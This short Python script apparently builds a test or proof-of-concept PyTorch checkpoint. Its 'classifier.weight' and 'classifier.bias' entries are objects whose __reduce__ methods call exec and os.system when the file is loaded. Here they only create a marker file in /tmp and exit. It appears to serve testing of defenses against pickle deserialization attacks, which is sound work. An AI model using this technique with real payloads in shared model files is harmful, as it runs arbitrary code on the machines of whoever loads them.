"""Save an object that is made by calling whatever one likes: make.py PATH."""

import os
import sys

import torch


class Weights:
    def __reduce__(self):
        return exec, ("import os; open('/tmp/attack-unpickled', 'w'); os._exit(0)",)


class Listing:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-unpickled",)


torch.save({"classifier.weight": Weights(), "classifier.bias": Listing()}, sys.argv[1])
